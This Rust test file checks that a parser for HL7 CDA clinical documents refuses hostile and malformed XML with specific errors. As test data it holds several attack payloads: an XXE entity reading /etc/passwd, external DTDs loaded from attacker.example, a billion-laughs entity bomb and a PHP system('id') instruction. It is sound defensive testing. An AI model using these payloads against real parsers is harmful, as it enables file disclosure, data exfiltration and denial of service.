//! Hostile and malformed inputs: each is refused with its own error, never a panic.

mod common;

use common::{HEADER, N1_BODY, N3_BODY, document, n1, nested};
use socle_cda::{CdaError, Limit, Limits, XmlError, parse};

fn xml_err(bytes: &[u8]) -> XmlError {
    xml_err_with(bytes, &Limits::default())
}

fn xml_err_with(bytes: &[u8], limits: &Limits) -> XmlError {
    match parse(bytes, limits) {
        Err(CdaError::Xml(e)) => e,
        other => panic!("expected an XML error, got {other:?}"),
    }
}

fn limit(limit: Limit, max: usize) -> XmlError {
    XmlError::LimitExceeded { limit, max }
}

#[test]
fn the_synthetic_documents_are_valid() {
    // Guards the tests below: each differs from a valid document by the one hostile change.
    parse(n1().as_bytes(), &Limits::default()).unwrap();
    parse(document("", N3_BODY).as_bytes(), &Limits::default()).unwrap();
}

#[test]
fn xxe_external_entity_is_refused_as_a_dtd() {
    let doc = n1().replace(
        "<ClinicalDocument",
        "<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<ClinicalDocument",
    );
    let doc = doc.replace("<title>", "<title>&xxe;");
    let err = parse(doc.as_bytes(), &Limits::default()).unwrap_err();
    assert_eq!(err, CdaError::Xml(XmlError::DoctypeForbidden));
    assert_eq!(err.to_string(), "document CDA : DTD interdite (<!DOCTYPE>)");
}

#[test]
fn external_dtd_and_parameter_entities_are_refused() {
    for doctype in [
        r#"<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/evil.dtd">"#,
        r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>"#,
        "<!DOCTYPE ClinicalDocument>",
    ] {
        let doc = n1().replace(
            "<ClinicalDocument",
            &format!("{doctype}\n<ClinicalDocument"),
        );
        assert_eq!(
            xml_err(doc.as_bytes()),
            XmlError::DoctypeForbidden,
            "{doctype}"
        );
    }
}

#[test]
fn billion_laughs_is_refused_as_a_dtd() {
    let mut dtd = String::from("<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    dtd.push_str("]>\n");
    let doc = n1()
        .replace("<ClinicalDocument", &format!("{dtd}<ClinicalDocument"))
        .replace("<title>", "<title>&lol9;");
    assert_eq!(xml_err(doc.as_bytes()), XmlError::DoctypeForbidden);
}

#[test]
fn undeclared_entities_are_refused_in_text_and_attributes() {
    let doc = n1().replace("<title>", "<title>&xxe;");
    assert_eq!(
        xml_err(doc.as_bytes()),
        XmlError::UndeclaredEntity("xxe".into())
    );
    let doc = n1().replace("extension=\"DOC-1\"", "extension=\"&xxe;\"");
    assert_eq!(
        xml_err(doc.as_bytes()),
        XmlError::UndeclaredEntity("xxe".into())
    );
    let doc = n1().replace("<title>", "<title>&#0;");
    assert_eq!(
        xml_err(doc.as_bytes()),
        XmlError::InvalidCharacterReference("#0".into())
    );
}

#[test]
fn a_25_mib_document_is_refused_before_parsing() {
    let padding = " ".repeat(25 * 1024 * 1024);
    let doc = n1().replace(
        "</ClinicalDocument>",
        &format!("{padding}</ClinicalDocument>"),
    );
    assert_eq!(
        xml_err(doc.as_bytes()),
        limit(Limit::MaxBytes, 20 * 1024 * 1024)
    );
    // The size check comes first: even bytes that are not XML at all get the size error.
    assert_eq!(
        xml_err(&vec![0xFF; 25 * 1024 * 1024]),
        limit(Limit::MaxBytes, 20 * 1024 * 1024)
    );
    // A smaller limit applies as configured.
    let small = Limits {
        max_bytes: 1000,
        ..Limits::default()
    };
    assert_eq!(
        xml_err_with(n1().as_bytes(), &small),
        limit(Limit::MaxBytes, 1000)
    );
    let err = parse(n1().as_bytes(), &small).unwrap_err();
    assert_eq!(
        err.to_string(),
        "document CDA : limite dépassée : max_bytes (taille du document en octets) = 1000"
    );
}

#[test]
fn depth_10000_is_refused() {
    assert_eq!(
        xml_err(nested(10_000).as_bytes()),
        limit(Limit::MaxDepth, 256)
    );
    // Exactly at the limit is accepted, one more is not.
    parse(nested(256 - 5).as_bytes(), &Limits::default()).unwrap();
    assert_eq!(
        xml_err(nested(256 - 4).as_bytes()),
        limit(Limit::MaxDepth, 256)
    );
}

#[test]
fn too_many_namespaces_in_scope_are_refused() {
    // 65 declarations in scope, spread over nested elements of 13 each: refused.
    let decls = |level: usize| -> String {
        (0..13)
            .map(|i| format!(" xmlns:p{level}x{i}=\"urn:x:{level}:{i}\""))
            .collect()
    };
    let open: String = (0..5).map(|l| format!("<x:e{}>", decls(l))).collect();
    let close: String = "</x:e>".repeat(5);
    let doc = n1().replace("<title>", &format!("{open}{close}<title>"));
    let doc = doc.replacen(
        "<ClinicalDocument ",
        "<ClinicalDocument xmlns:x=\"urn:x\" ",
        1,
    );
    assert_eq!(xml_err(doc.as_bytes()), limit(Limit::MaxNamespaces, 64));
    // The same declarations on siblings are never in scope together: accepted.
    let siblings: String = (0..5).map(|l| format!("<x:e{}/>", decls(l))).collect();
    let doc = n1().replace("<title>", &format!("{siblings}<title>"));
    let doc = doc.replacen(
        "<ClinicalDocument ",
        "<ClinicalDocument xmlns:x=\"urn:x\" ",
        1,
    );
    parse(doc.as_bytes(), &Limits::default()).unwrap();
}

#[test]
fn too_many_attributes_too_long_text_too_many_items() {
    let attrs: String = (0..65).map(|i| format!(" a{i}=\"v\"")).collect();
    let doc = n1().replace("<title>", &format!("<title{attrs}>"));
    assert_eq!(xml_err(doc.as_bytes()), limit(Limit::MaxAttributes, 64));

    let limits = Limits {
        max_text_bytes: 16,
        ..Limits::default()
    };
    assert_eq!(
        xml_err_with(n1().as_bytes(), &limits),
        limit(Limit::MaxTextBytes, 16)
    );

    let authors = "<author><assignedAuthor><id root=\"1.2\"/></assignedAuthor></author>".repeat(10);
    let limits = Limits {
        max_list_items: 5,
        ..Limits::default()
    };
    assert_eq!(
        xml_err_with(document(&authors, N1_BODY).as_bytes(), &limits),
        limit(Limit::MaxListItems, 5)
    );
}

#[test]
fn a_non_cda_root_is_refused() {
    let fhir = br#"<Bundle xmlns="http://hl7.org/fhir"><type value="document"/></Bundle>"#;
    assert_eq!(
        xml_err(fhir),
        XmlError::WrongNamespace {
            element: "Bundle".into(),
            expected: "urn:hl7-org:v3",
            found: "http://hl7.org/fhir".into(),
        }
    );
    let other = n1().replace("ClinicalDocument", "PatientRecord");
    assert_eq!(
        xml_err(other.as_bytes()),
        XmlError::WrongRootElement {
            expected: "ClinicalDocument",
            found: "PatientRecord".into(),
            namespace: "urn:hl7-org:v3".into(),
        }
    );
}

/// A document wrapped in an XSLT stylesheet (CI-SIS "auto-présentable"): read from the one ClinicalDocument
/// inside; none, or two, is refused; any other wrapper is not one.
#[test]
fn auto_presentable_wrappers() {
    let doc = n1();
    let body = doc
        .split_once("?>")
        .map_or(doc.as_str(), |(_, rest)| rest)
        .trim();
    let wrap = |inner: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\
             <xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" \
             xmlns:data=\"urn:exemple:donnees\"><data:Contenu>{inner}</data:Contenu>\
             <xsl:template match=\"/\"><html><body><xsl:value-of select=\"//title\"/></body></html></xsl:template>\
             </xsl:stylesheet>"
        )
    };
    let plain = parse(doc.as_bytes(), &Limits::default()).unwrap();
    let wrapped = parse(wrap(body).as_bytes(), &Limits::default()).unwrap();
    assert_eq!(wrapped, plain);
    assert_eq!(
        parse(wrap("").as_bytes(), &Limits::default()),
        Err(CdaError::MissingElement("ClinicalDocument"))
    );
    assert_eq!(
        parse(
            wrap(&format!("{body}{body}")).as_bytes(),
            &Limits::default()
        ),
        Err(CdaError::DuplicateElement("ClinicalDocument"))
    );
    let other = wrap(body).replace("http://www.w3.org/1999/XSL/Transform", "urn:autre");
    assert!(matches!(
        xml_err(other.as_bytes()),
        XmlError::WrongNamespace { .. }
    ));
}

#[test]
fn a_wrong_namespace_is_refused() {
    let v2 = n1().replace("xmlns=\"urn:hl7-org:v3\"", "xmlns=\"urn:hl7-org:v2\"");
    assert_eq!(
        xml_err(v2.as_bytes()),
        XmlError::WrongNamespace {
            element: "ClinicalDocument".into(),
            expected: "urn:hl7-org:v3",
            found: "urn:hl7-org:v2".into(),
        }
    );
    let none = n1().replace(" xmlns=\"urn:hl7-org:v3\"", "");
    assert_eq!(
        xml_err(none.as_bytes()),
        XmlError::WrongNamespace {
            element: "ClinicalDocument".into(),
            expected: "urn:hl7-org:v3",
            found: "(aucun)".into(),
        }
    );
    // A prefix bound to nothing.
    let unbound = n1()
        .replace(
            "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"",
            "<hl7:ClinicalDocument",
        )
        .replace("</ClinicalDocument>", "</hl7:ClinicalDocument>");
    assert_eq!(
        xml_err(unbound.as_bytes()),
        XmlError::UndeclaredPrefix("hl7".into())
    );
}

#[test]
fn every_truncation_is_refused_as_truncated() {
    let doc = n1();
    let bytes = doc.as_bytes();
    let root = doc.find("<ClinicalDocument").unwrap();
    let root_end = root + doc[root..].find('>').unwrap() + 1;
    let end = doc.rfind("</ClinicalDocument>").unwrap() + "</ClinicalDocument>".len();
    for cut in 0..end {
        let err = xml_err(&bytes[..cut]);
        let ok = if !doc.is_char_boundary(cut) {
            matches!(err, XmlError::InvalidUtf8 { .. })
        } else if cut <= root {
            // Before the root: nothing but the prolog, or a tag cut short.
            matches!(err, XmlError::NoRootElement | XmlError::Truncated)
        } else if cut < root_end {
            err == XmlError::Truncated || matches!(err, XmlError::WrongNamespace { .. })
        } else {
            err == XmlError::Truncated
        };
        assert!(ok, "cut at {cut}: {err:?}");
    }
    assert_eq!(
        xml_err(&bytes[..end - 5]).to_string(),
        "XML tronqué : fin des données avant la fermeture des éléments ouverts"
    );
}

#[test]
fn invalid_utf8_is_refused_with_its_position() {
    let doc = n1();
    let at = doc.find("MARTIN").unwrap();
    let mut bytes = doc.into_bytes();
    bytes[at] = 0xFF;
    assert_eq!(xml_err(&bytes), XmlError::InvalidUtf8 { position: at });
    // Latin-1 bytes presented as UTF-8 (é = 0xE9).
    let latin1 =
        b"<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>\xE9t\xE9</title></ClinicalDocument>";
    assert!(matches!(
        xml_err(latin1),
        XmlError::InvalidUtf8 { position: 48 }
    ));
}

#[test]
fn encodings_other_than_utf8_are_refused() {
    let latin1 = n1().replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"");
    let err = parse(latin1.as_bytes(), &Limits::default()).unwrap_err();
    assert_eq!(
        err,
        CdaError::Xml(XmlError::UnsupportedEncoding("ISO-8859-1".into()))
    );
    assert_eq!(
        err.to_string(),
        "document CDA : encodage « ISO-8859-1 » non pris en charge (seul UTF-8 est accepté)"
    );
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(n1().encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert_eq!(
        xml_err(&utf16),
        XmlError::UnsupportedEncoding("UTF-16".into())
    );
    // UTF-8 with a byte-order mark, and the lowercase label, are fine.
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(n1().replace("UTF-8", "utf-8").as_bytes());
    parse(&bom, &Limits::default()).unwrap();
}

#[test]
fn processing_instructions_are_limited_to_an_allow_list() {
    let doc = n1().replace("<title>", "<?php system('id') ?><title>");
    assert_eq!(
        xml_err(doc.as_bytes()),
        XmlError::ProcessingInstructionForbidden("php".into())
    );
    let doc = n1().replace(
        "<ClinicalDocument",
        "<?oxygen SCHSchema=\"x.sch\"?>\n<ClinicalDocument",
    );
    parse(doc.as_bytes(), &Limits::default()).unwrap();
    let doc = n1().replace("<title>", "<?xml version=\"1.0\"?><title>");
    assert_eq!(xml_err(doc.as_bytes()), XmlError::MisplacedDeclaration);
}

#[test]
fn other_malformations() {
    // Control character.
    let doc = n1().replace("MARTIN", "MAR\u{1}TIN");
    assert!(matches!(
        xml_err(doc.as_bytes()),
        XmlError::IllegalCharacter { code: 1, .. }
    ));
    // Mismatched end tag.
    let doc = n1().replace("</title>", "</titel>");
    assert!(matches!(
        xml_err(doc.as_bytes()),
        XmlError::Malformed { .. }
    ));
    // A second root element.
    let doc = format!("{}<ClinicalDocument xmlns=\"urn:hl7-org:v3\"/>", n1());
    assert_eq!(xml_err(doc.as_bytes()), XmlError::ContentAfterRoot);
    // Text after the root.
    let doc = format!("{}trailing", n1());
    assert_eq!(xml_err(doc.as_bytes()), XmlError::TextOutsideRoot);
    // Nothing at all.
    assert_eq!(xml_err(b""), XmlError::NoRootElement);
    assert_eq!(
        xml_err(b"  \n<!-- only a comment -->"),
        XmlError::NoRootElement
    );
    // Duplicate attribute.
    let doc = n1().replace("<id root=\"1.2.250.1.999.1\"", "<id root=\"1\" root=\"2\"");
    assert!(matches!(
        xml_err(doc.as_bytes()),
        XmlError::Malformed { .. }
    ));
}

#[test]
fn header_structure_errors() {
    let dup_id = document("<id root=\"1.2.3\"/>", N1_BODY);
    assert_eq!(
        parse(dup_id.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::DuplicateElement("id")
    );
    let second_patient = document(
        "<recordTarget><patientRole><id root=\"1.2.250.1.213.1.4.8\" extension=\"1\"/></patientRole></recordTarget>",
        N1_BODY,
    );
    assert_eq!(
        parse(second_patient.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::DuplicateElement("recordTarget")
    );
    let two_bodies = document(N3_BODY, N1_BODY);
    assert_eq!(
        parse(two_bodies.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::DuplicateElement("component")
    );
    let no_body = document("", "");
    assert_eq!(
        parse(no_body.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::MissingElement("component/structuredBody|nonXMLBody")
    );
    let no_code = n1().replace(
        "<code code=\"11502-2\" codeSystem=\"2.16.840.1.113883.6.1\" displayName=\"CR d'examens biologiques\"/>",
        "",
    );
    assert_eq!(
        parse(no_code.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::MissingElement("code")
    );
    let null_id = n1().replace(
        "<id root=\"1.2.250.1.999.1\" extension=\"DOC-1\"/>",
        "<id nullFlavor=\"NI\"/>",
    );
    assert_eq!(
        parse(null_id.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::MissingAttribute {
            element: "id",
            attribute: "root"
        }
    );
    let bad_time = n1().replace(
        "20240105101500+0100\"/>\n  <confidentialityCode",
        "2024-01-05\"/>\n  <confidentialityCode",
    );
    let err = parse(bad_time.as_bytes(), &Limits::default()).unwrap_err();
    assert_eq!(err, CdaError::InvalidEffectiveTime("2024-01-05".into()));
    assert_eq!(
        err.to_string(),
        "document CDA : date du document (effectiveTime) invalide : « 2024-01-05 »"
    );
    let bad_version = n1().replace(
        "<versionNumber value=\"1\"/>",
        "<versionNumber value=\"-1\"/>",
    );
    assert_eq!(
        parse(bad_version.as_bytes(), &Limits::default()).unwrap_err(),
        CdaError::InvalidVersionNumber("-1".into())
    );
    assert!(HEADER.contains("<author>"));
}

#[test]
fn a_large_n1_document_under_the_size_limit_is_accepted() {
    use base64::Engine as _;
    // 14 MiB of content, base64 in 76-column CRLF lines: about 19 MiB of XML.
    let mut pdf = b"%PDF-1.7\n".to_vec();
    pdf.extend((0..14 * 1024 * 1024u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    let encoded = base64::engine::general_purpose::STANDARD.encode(&pdf);
    let wrapped: Vec<&str> = encoded
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let body = format!(
        "<component><nonXMLBody><text mediaType=\"application/pdf\" representation=\"B64\">{}</text></nonXMLBody></component>",
        wrapped.join("\r\n")
    );
    let doc = document("", &body);
    assert!(doc.len() > 18 * 1024 * 1024 && doc.len() < 20 * 1024 * 1024);
    let parsed = parse(doc.as_bytes(), &Limits::default()).unwrap();
    assert_eq!(
        parsed.body,
        socle_cda::Body::NonXml {
            media_type: Some("application/pdf".into()),
            representation: Some("B64".into()),
            bytes_base64_len: encoded.len(),
            compression: None,
        }
    );
    let (_, decoded) = socle_cda::extract_n1_body(doc.as_bytes(), &Limits::default())
        .unwrap()
        .unwrap();
    assert!(decoded == pdf, "decoded body differs");
}
